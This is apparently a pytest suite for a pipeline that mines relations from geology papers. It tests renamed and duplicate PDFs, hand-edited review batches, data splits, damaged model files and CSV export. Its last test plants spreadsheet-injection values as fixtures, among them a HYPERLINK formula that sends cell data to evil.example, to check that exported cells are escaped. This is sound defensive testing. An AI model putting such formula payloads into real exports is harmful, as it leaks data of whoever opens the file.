"""Bad inputs and faults a hostile but fair user tries (issue 20), each on real files: real
PDFs of the sample corpus copied and renamed in tmp folders, real CSV and JSON batches,
real model files truncated. Each test fails on the code before the fix: a paper named
after another, rows of two papers merged, misaligned review spans imported, or a raw
traceback instead of a message naming the file, row or flag and the fix."""
from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml

from stages.errors import InputError
from stages.params import ParamsError

ROOT = Path(__file__).resolve().parents[1]
PENG = "peng2012_Episodes_JiangshanianGSSP.pdf"
BABCOCK = "babcock2007_Episodes_DrumianGSSP_WheelerFm.pdf"
COHEN = "cohen2013_Episodes_ICSChronostratChart.pdf"


def _params(tmp: Path, **sections) -> Path:
    """The project's params with every path of mine/entities/relations/split in tmp."""
    raw = yaml.safe_load((ROOT / "params.yaml").read_text())
    raw["run"].update(cache_dir=str(tmp / "cache"))
    raw["mine"].update(papers_dir=str(tmp / "papers"), out_dir=str(tmp / "mined"), report=str(tmp / "mine.json"),
                       ocr=False, isolate=False)
    raw["entities"].update(mined_dir=str(tmp / "mined"), out_dir=str(tmp / "entities"))
    raw["relations"].update(entities_dir=str(tmp / "entities"), out_dir=str(tmp / "relations"))
    raw["split"].update(relations_dir=str(tmp / "relations"), gold_dir=str(tmp / "gold"), out_dir=str(tmp / "split"))
    for name, values in sections.items():
        raw[name].update(values)
    path = tmp / "params.yaml"
    path.write_text(yaml.safe_dump(raw))
    return path


def _doc_ids(folder: Path) -> dict[str, set[str]]:
    """file stem -> the doc_ids its records carry."""
    return {f.stem: {json.loads(line)["doc_id"] for line in f.read_text().splitlines() if line.strip()}
            for f in sorted(folder.glob("*.jsonl"))}


# --- 1. a renamed paper, a copy under another name ------------------------------------------


def _in_tmp_project(tmp: Path, monkeypatch) -> None:
    """Run from tmp (the flows write reports/ under the working folder), with the project's
    pattern files and gazetteers where params.yaml names them."""
    monkeypatch.chdir(tmp)
    (tmp / "data").mkdir()
    for name in ("patterns", "gazetteers"):
        (tmp / "data" / name).symlink_to(ROOT / "data" / name)


def test_renamed_paper_and_its_copy_carry_their_own_doc_id_through_mine_entities_relations(
        tmp_path, sample_papers, prefect_server, monkeypatch):
    from flows.entities import run_entities
    from flows.mine import run_mine_flow
    from flows.relations import run_relations

    _in_tmp_project(tmp_path, monkeypatch)
    papers = tmp_path / "papers"
    papers.mkdir()
    shutil.copy(sample_papers / PENG, papers / PENG)
    params = str(_params(tmp_path))
    run_mine_flow(params)  # fills the per-paper cache under the first name
    (papers / PENG).rename(papers / "peng2012_RENAMED.pdf")
    shutil.copy(papers / "peng2012_RENAMED.pdf", papers / "copy_of_peng.pdf")

    report = run_mine_flow(params)
    assert (report["papers"], report["cached"], report["failed"]) == (2, 2, 0)
    assert report["same_content"] == [{"file": str(papers / "peng2012_RENAMED.pdf"),
                                       "same_as": str(papers / "copy_of_peng.pdf")}]
    assert _doc_ids(tmp_path / "mined") == {"copy_of_peng": {"copy_of_peng"}, "peng2012_RENAMED": {"peng2012_RENAMED"}}
    run_entities(params)
    assert _doc_ids(tmp_path / "entities") == _doc_ids(tmp_path / "mined")
    run_relations(params)
    rel = _doc_ids(tmp_path / "relations")
    assert rel == {"copy_of_peng": {"copy_of_peng"}, "peng2012_RENAMED": {"peng2012_RENAMED"}}
    ids = [json.loads(line)["id"] for line in (tmp_path / "relations" / "copy_of_peng.jsonl").read_text().splitlines()]
    assert ids and all(i.startswith("copy_of_peng:") for i in ids)


def test_names_that_differ_only_by_case_are_reported_not_overwritten(tmp_path, sample_papers, prefect_server):
    from flows.mine import run_mine_flow

    papers = tmp_path / "papers"
    papers.mkdir()
    shutil.copy(sample_papers / COHEN, papers / "X.pdf")
    shutil.copy(sample_papers / PENG, papers / "X.PDF")  # another paper, same doc_id
    shutil.copy(sample_papers / BABCOCK, papers / "babcock.pdf")
    report = run_mine_flow(str(_params(tmp_path)))
    assert (report["papers"], report["failed"]) == (3, 1)
    assert sorted(report["per_paper"]) == ["X", "babcock"]
    (fail,) = report["failures"]
    assert fail["file"] == str(papers / "X.pdf")  # sorted: X.PDF comes first and keeps the doc_id
    assert "X.PDF" in fail["reason"] and "fix: rename X.pdf" in fail["reason"]
    mined = tmp_path / "mined" / "X.jsonl"
    first = json.loads(mined.read_text().splitlines()[0])
    assert first["doc_id"] == "X"
    peng_text = {json.loads(x)["text"] for x in mined.read_text().splitlines()}
    assert any("Jiangshan" in t for t in peng_text)  # the X.PDF paper, not overwritten by X.pdf


# --- 2. and 3. extract: the paper column -------------------------------------------------------


def _candidates(pdf: Path, cache: Path, doc_id: str | None = None) -> dict:
    from flows.extract import paper_candidates
    from stages.extract import ExtractParams
    from stages.mine import MineParams

    args = (str(pdf), MineParams(ocr=False, isolate=False).__dict__, str(cache), ExtractParams())
    return paper_candidates(*args, doc_id) if doc_id else paper_candidates(*args)


def test_extract_names_a_renamed_copy_by_its_own_name_not_the_cached_one(tmp_path, sample_papers):
    from flows.mine import mine_pdfs
    from stages.mine import MineParams

    cache = tmp_path / "cache"
    first = _candidates(sample_papers / BABCOCK, cache)
    assert first["error"] is None and not first["mine_cached"]
    copy = tmp_path / "elsewhere" / "renamed_copy.pdf"
    copy.parent.mkdir()
    shutil.copy(sample_papers / BABCOCK, copy)
    res = _candidates(copy, cache)
    assert res["mine_cached"] and res["doc_id"] == "renamed_copy"
    assert res["candidates"] and {c["doc_id"] for c in res["candidates"]} == {"renamed_copy"}
    assert all(c["id"].startswith("renamed_copy:") for c in res["candidates"])
    sentences, failures = mine_pdfs([copy], MineParams(ocr=False, isolate=False), str(cache))
    assert not failures and {s.doc_id for s in sentences} == {"renamed_copy"}


def test_extract_ids_are_unique_for_the_same_file_name_in_two_folders(tmp_path, sample_papers):
    from flows.extract import collect_pdfs

    x = tmp_path / "x"
    (x / "a").mkdir(parents=True)
    (x / "b").mkdir()
    shutil.copy(sample_papers / BABCOCK, x / "a" / "paper.pdf")
    shutil.copy(sample_papers / PENG, x / "b" / "paper.pdf")
    shutil.copy(sample_papers / COHEN, x / "X.pdf")
    shutil.copy(sample_papers / COHEN, x / "X.PDF")
    papers, failures = collect_pdfs([str(x)])
    assert not failures
    assert [d for _, d in papers] == [str(x / "X.PDF"), str(x / "X.pdf"), "a/paper", "b/paper"]
    # two file arguments with the same name: their paths as given
    papers, _ = collect_pdfs([str(x / "a" / "paper.pdf"), str(x / "b" / "paper.pdf"), str(sample_papers / PENG)])
    assert [d for _, d in papers] == [str(x / "a" / "paper.pdf"), str(x / "b" / "paper.pdf"), Path(PENG).stem]

    # two folder arguments each holding a paper.pdf: the same relative id, so paths as given
    papers, _ = collect_pdfs([str(x / "a"), str(x / "b")])
    assert [d for _, d in papers] == [str(x / "a" / "paper.pdf"), str(x / "b" / "paper.pdf")]


def test_extract_rows_of_two_papers_with_the_same_file_name_never_merge(tmp_path, sample_papers):
    from flows.extract import collect_pdfs
    from stages.extract import classified_rows, dedupe
    from stages.records import Example

    x = tmp_path / "x"
    for sub, name in (("a", BABCOCK), ("b", PENG)):
        (x / sub).mkdir(parents=True)
        shutil.copy(sample_papers / name, x / sub / "paper.pdf")
    per_paper = {}
    for pdf, doc_id in collect_pdfs([str(x)])[0]:
        res = _candidates(pdf, tmp_path / "cache", doc_id)
        exs = [Example.from_dict(d) for d in res["candidates"] if d["label"] != "NO_RELATION"]
        # the patterns' labels as the decisions: rows of both papers, with repeated relations
        per_paper[doc_id] = classified_rows(exs, [e.label for e in exs], [1.0] * len(exs))
    assert sorted(per_paper) == ["a/paper", "b/paper"] and all(per_paper.values())
    table = dedupe(per_paper["a/paper"] + per_paper["b/paper"])
    assert table == dedupe(per_paper["a/paper"]) + dedupe(per_paper["b/paper"])
    assert sum(r.count for r in table if r.paper == "a/paper") == len(per_paper["a/paper"])


# --- 4. and 5. review batches edited by hand ----------------------------------------------------

CLAYBOURN = "claybourn2019_JPaleontol_ShackletonLimestoneMollusks_CambrianSeries2.pdf"


@pytest.fixture(scope="module")
def real_examples(tmp_path_factory, sample_papers) -> dict[str, list]:
    """Candidate pairs with their pattern labels of three sample papers (the mine, entities
    and relations code, as extract forms them)."""
    from stages.records import Example

    cache = tmp_path_factory.mktemp("faults-cache")
    out = {}
    for name in (BABCOCK, PENG, CLAYBOURN):
        res = _candidates(sample_papers / name, cache)
        assert res["error"] is None
        out[Path(name).stem] = [Example.from_dict(d) for d in res["candidates"]]
    return out


def _schema() -> dict:
    from stages.patterns import schema_args

    return schema_args(ROOT / "data/patterns/relations.yaml", ROOT / "data/patterns/entities.yaml")


def _review_items(examples: list) -> list:
    """A batch as `review export` picks it without a model: a pattern sample per class."""
    from stages.review import select_batch

    allowed = _schema()
    return select_batch(examples, None, None, [*allowed, "NO_RELATION"], 4, 13, allowed)


def _filled_csv(tmp: Path, items: list, edit=None) -> Path:
    """batch.csv as exported, every row labelled with the pattern label, ``edit(rows)`` applied."""
    import csv
    import io

    from stages.review import review_csv

    rows = list(csv.DictReader(io.StringIO(review_csv(items))))
    for r in rows:
        r["reviewer_label"] = r["pattern_label"]
    if edit:
        edit(rows)
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    path = tmp / "batch.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _row_with(rows: list[dict], subject: str) -> int:
    return next(i for i, r in enumerate(rows) if r["subject"].startswith(subject))


def test_review_csv_with_an_edited_sentence_is_refused_naming_the_row(tmp_path, real_examples):
    from stages.review import import_batch

    items = _review_items([e for e in real_examples[Path(CLAYBOURN).stem] if e.subj.text.startswith("Pojetaia")])
    assert len(items) > 2
    good = import_batch(_filled_csv(tmp_path, items), _schema())
    assert len(good.examples) == len(items)
    assert {(e.id, e.subj.text, e.obj.text) for e in good.examples} == \
        {(it.example.id, it.example.subj.text, it.example.obj.text) for it in items}

    state = {}

    def prefix(rows):
        i = state["i"] = _row_with(rows, "Pojetaia")
        rows[i]["text"] = "XX" + rows[i]["text"]

    path = _filled_csv(tmp_path, items, prefix)
    with pytest.raises(InputError) as err:
        import_batch(path, _schema())
    msg = str(err.value)
    i = state["i"]
    assert f"line {i + 2} (id {items[i].example.id})" in msg and str(path) in msg
    e = items[i].example
    shifted = ("XX" + e.text)[e.subj.start:e.subj.end]  # e.g. "s Pojetaia runnega"
    assert shifted != e.subj.text and f"reads {shifted!r}, but the subject is {e.subj.text!r}" in msg
    assert "nothing was imported" in msg and "fix: restore the text" in msg


def test_review_csv_with_a_shifted_offset_is_refused_naming_the_row(tmp_path, real_examples):
    from stages.review import import_batch

    items = _review_items(real_examples[Path(PENG).stem])

    def shift(rows):
        rows[1]["subj_start"] = str(int(rows[1]["subj_start"]) + 1)
        rows[3]["obj_end"] = "100000"

    path = _filled_csv(tmp_path, items, shift)
    with pytest.raises(InputError) as err:
        import_batch(path, _schema())
    msg = str(err.value)
    subj = items[1].example.subj.text
    assert f"line 3 (id {items[1].example.id}): the subject span" in msg and f"{subj[1:]!r}" in msg
    assert f"the subject is {subj!r}" in msg
    assert f"line 5 (id {items[3].example.id}): the object span" in msg and "outside the" in msg
    assert "2 row(s)" in msg


def test_label_studio_export_with_shifted_offsets_or_a_missing_field_names_the_task(tmp_path, real_examples):
    from stages.review import import_batch, label_studio_tasks

    items = _review_items(real_examples[Path(BABCOCK).stem])
    tasks = json.loads(json.dumps(label_studio_tasks(items)))
    export = [{"id": 40 + n, "data": t["data"], "predictions": t["predictions"],
               "annotations": [{"id": n, "result": t["predictions"][0]["result"], "was_cancelled": False}]}
              for n, t in enumerate(tasks, 1)]
    path = tmp_path / "export.json"
    path.write_text(json.dumps(export))
    assert len(import_batch(path, _schema()).examples) == len(items)

    shifted = json.loads(json.dumps(export))
    v = next(r for r in shifted[1]["annotations"][0]["result"] if r["id"] == "subj")["value"]
    v["start"] += 1  # the span's own text no longer matches the slice
    path.write_text(json.dumps(shifted))
    with pytest.raises(InputError, match=rf"task 2 \(id 42, example {items[1].example.id}\): the subject span "
                                         rf".*fix: export the tasks"):
        import_batch(path, _schema())

    del export[2]["data"]["subj_start"]
    path.write_text(json.dumps(export))
    with pytest.raises(InputError, match=rf"task 3 \(id 43, example {items[2].example.id}\): field\(s\) subj_start "
                                         r"missing from the task data; fix:"):
        import_batch(path, _schema())


def test_a_batch_imported_twice_under_two_names_is_refused_and_split_counts_gold_once(
        tmp_path, real_examples, prefect_server):
    from flows.review import import_flow
    from flows.split import run_split
    from stages.records import write_jsonl

    params = _params(tmp_path, review={"gold_dir": str(tmp_path / "gold")})
    items = _review_items(real_examples[Path(PENG).stem])
    batch = _filled_csv(tmp_path, items)
    first = import_flow(str(batch), "b1", params_path=str(params))
    assert first["examples"] == len(items) and first["already_gold"] == 0
    with pytest.raises(InputError, match=rf"every reviewed example \({len(items)}\) is already gold in "
                                         rf".*b1.jsonl.*fix: .*--batch b1"):
        import_flow(str(batch), "b2", params_path=str(params))
    assert not (tmp_path / "gold" / "b2.jsonl").exists()
    assert import_flow(str(batch), "b1", params_path=str(params))["examples"] == len(items)  # relabel: same name

    # a bigger batch holding the first one: only the new examples are imported
    more = _review_items(real_examples[Path(PENG).stem] + real_examples[Path(BABCOCK).stem])
    new = [it for it in more if it.example.id not in {i.example.id for i in items}]
    both = [it for it in more if it not in new]
    assert new and both
    res = import_flow(str(_filled_csv(tmp_path, more)), "b3", params_path=str(params))
    assert (res["examples"], res["already_gold"]) == (len(new), len(both))

    # a copy made by hand (not through import): split keeps each gold example once and says so
    (tmp_path / "gold" / "b1-copy.jsonl").write_bytes((tmp_path / "gold" / "b1.jsonl").read_bytes())
    for doc, exs in real_examples.items():
        write_jsonl(tmp_path / "relations" / f"{doc}.jsonl", exs)
    report = run_split(str(params), report_path=str(tmp_path / "split.json"))
    gold_ids = [json.loads(x)["id"] for x in (tmp_path / "split" / "gold.jsonl").read_text().splitlines()]
    assert len(gold_ids) == len(set(gold_ids)) == len(items) + len(new)
    (msg,) = report["repeated_gold"]
    # files are read in name order: b1-copy.jsonl first, so b1.jsonl is the repeat
    assert f"b1.jsonl: {len(items)} gold example(s) already in {tmp_path / 'gold' / 'b1-copy.jsonl'}" in msg
    assert "fix: delete the repeated file" in msg
    # ... and so does evaluate, which reads data/gold itself
    from stages.records import read_gold_set

    gold, files, problems = read_gold_set(tmp_path / "gold")
    assert len(files) == 3 and len(gold) == len({g.id for g in gold}) == len(items) + len(new)
    assert any(f"b1.jsonl: {len(items)} gold example(s) already in" in m and "fix: delete the repeated file" in m
               for m in problems)


# --- split: what the model would silently lack; params -------------------------------------------


def test_a_class_left_without_train_examples_is_warned_by_name(real_examples, caplog):
    import logging

    from stages.split import SplitParams, split_examples

    exs = [e for v in real_examples.values() for e in v]
    part_of = [e for e in exs if e.label == "part_of"]
    assert len(part_of) >= 3  # a rare class of these three papers
    n = 3  # exactly min_class_count: stratified, not kept in train
    exs = [e for e in exs if e.label != "part_of"] + part_of[:n]
    # find a seed where the split puts all of its sentences in dev/test (the case the warning is for)
    seed = next(s for s in range(500) if not any(
        e.label == "part_of" for e in split_examples(exs, SplitParams(min_class_count=n, seed=s)).train))
    with caplog.at_level(logging.WARNING):
        res = split_examples(exs, SplitParams(min_class_count=n, seed=seed))
    (msg,) = [w for w in res.warnings if "part_of" in w]
    assert f"class part_of has no train example (its {n} example(s) all fell in dev/test)" in msg
    assert f"split.min_class_count to {n + 1}" in msg and msg in caplog.text
    # the fix the message gives works
    res = split_examples(exs, SplitParams(min_class_count=n + 1, seed=seed))
    assert sum(e.label == "part_of" for e in res.train) == n and not any("no train example" in w for w in res.warnings)


def test_a_schema_relation_without_examples_is_warned_by_name(tmp_path, real_examples, prefect_server):
    from flows.split import run_split
    from stages.records import write_jsonl

    for doc in (Path(BABCOCK).stem, Path(PENG).stem):  # no part_of pair in these two papers
        write_jsonl(tmp_path / "relations" / f"{doc}.jsonl", real_examples[doc])
    params = _params(tmp_path, split={"relation_patterns": str(ROOT / "data/patterns/relations.yaml")})
    report = run_split(str(params), report_path=str(tmp_path / "split.json"))
    (msg,) = [w for w in report["warnings"] if "part_of" in w]
    assert msg.startswith("relation part_of is declared in the schema but has no example") and "fix:" in msg
    assert not any(w.startswith(f"relation {r} ") for r in ("occurs_in", "found_at", "assigned_to")
                   for w in report["warnings"])


def test_test_fraction_0_and_a_misspelt_section_are_refused_at_params_load(tmp_path):
    from flows.common import load_params
    from stages.split import SplitParams

    raw = yaml.safe_load((ROOT / "params.yaml").read_text())
    raw["split"]["test_fraction"] = 0
    (tmp_path / "p.yaml").write_text(yaml.safe_dump(raw))
    with pytest.raises(ParamsError, match=r"split: test_fraction is 0: .*fix: set split.test_fraction to e.g. 0.15"):
        load_params(SplitParams, "split", tmp_path / "p.yaml")

    raw = yaml.safe_load((ROOT / "params.yaml").read_text())
    raw["trian"] = raw.pop("train")
    (tmp_path / "p.yaml").write_text(yaml.safe_dump(raw))
    with pytest.raises(ParamsError, match=r"p.yaml: unknown section\(s\) 'trian' \(did you mean 'train'\?\).*fix: "):
        load_params(SplitParams, "split", tmp_path / "p.yaml")  # any stage: the file itself is wrong


def test_extract_min_confidence_out_of_range_names_the_flag(tmp_path, monkeypatch, capsys, sample_papers):
    from flows import extract

    monkeypatch.setattr("sys.argv", ["extract", str(sample_papers / PENG), "--out", str(tmp_path / "o.csv"),
                                     "--min-confidence", "2"])
    with pytest.raises(SystemExit) as exit_info:
        extract.main()
    assert exit_info.value.code == 2
    err = capsys.readouterr().err
    assert "argument --min-confidence: 2 is outside [0, 1]; fix: give a confidence between 0 and 1" in err
    assert "Traceback" not in err and not (tmp_path / "o.csv").exists()


def test_extract_flow_min_confidence_out_of_range_is_an_input_error(tmp_path, sample_papers, prefect_server):
    from flows.extract import extract_flow

    with pytest.raises(InputError, match=r"--min-confidence 2.0: min_confidence must be in \[0, 1\].*fix:"):
        extract_flow([str(sample_papers / PENG)], str(tmp_path / "o.csv"), min_confidence=2.0)


# --- a damaged model folder ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory, real_examples) -> Path:
    """A LoRA model trained for one epoch on a tiny BERT (test_model's), saved like the train stage."""
    from test_model import make_tiny_bert

    from stages.train import TrainParams, train_model

    tmp = tmp_path_factory.mktemp("tiny-model")
    exs = real_examples[Path(PENG).stem][:48]
    bert = make_tiny_bert(tmp / "bert", [e.text for e in exs])
    p = TrainParams(model=str(bert), out_dir=str(tmp / "model"), epochs=1, batch_size=16, lora_r=2, lora_alpha=4,
                    lora_target_modules=["query"], warmup_ratio=0.0, max_length=64, device="cpu", log_every=50)
    train_model(p, exs, exs)
    return tmp / "model"


def test_truncated_adapter_weights_or_a_broken_meta_name_the_file_and_the_fix(tmp_path, tiny_model):
    from stages.model import load_trained_model

    intact = load_trained_model(tiny_model, dtype="float32")
    assert intact.labels

    cut = tmp_path / "cut"
    shutil.copytree(tiny_model, cut)
    weights = cut / "adapter_model.safetensors"
    weights.write_bytes(weights.read_bytes()[: weights.stat().st_size // 2])
    with pytest.raises(InputError) as err:
        load_trained_model(cut, dtype="float32")
    msg = str(err.value)
    assert f"{weights}: truncated" in msg and f"fix: restore it with `dvc checkout {cut}` or retrain" in msg

    weights.write_bytes(b"\x00" * 4)  # not even a header
    with pytest.raises(InputError, match=r"adapter_model.safetensors: not a readable safetensors file"):
        load_trained_model(cut, dtype="float32")

    broken = tmp_path / "broken"
    shutil.copytree(tiny_model, broken)
    meta = broken / "relmine.json"
    meta.write_text(meta.read_text()[:40])
    with pytest.raises(InputError, match=rf"{meta}: not a valid model description .*fix: restore it with "
                                         rf"`dvc checkout {broken}`"):
        load_trained_model(broken, dtype="float32")


# --- extract's CSV in a spreadsheet ----------------------------------------------------------------


def test_extract_csv_neutralises_spreadsheet_formulas_and_reads_back(tmp_path, real_examples):
    import csv

    from stages.extract import classified_rows, read_rows, write_rows

    exs = [e for e in real_examples[Path(BABCOCK).stem] if e.label != "NO_RELATION"][:6]
    rows = classified_rows(exs, [e.label for e in exs], [0.9] * len(exs))
    rows[0].subject = '=HYPERLINK("http://evil.example/?"&A1,"Ptychagnostus")'
    rows[1].object = "+1-555-0100"
    rows[2].sentence = "-3 m below the base: " + rows[2].sentence
    rows[3].section = "@SUM(A1:A9)"
    rows[4].subject = "'=already quoted"
    rows[5].paper = "\tcmd"
    path = tmp_path / "rows.csv"
    write_rows(path, rows)
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for cell in ("'=HYPERLINK(", "'+1-555-0100", "'-3 m below", "'@SUM(A1:A9)", "''=already quoted", "'\tcmd"):
        assert any(c.startswith(cell) for c in cells), cell
    assert read_rows(path) == rows  # the apostrophes come off again
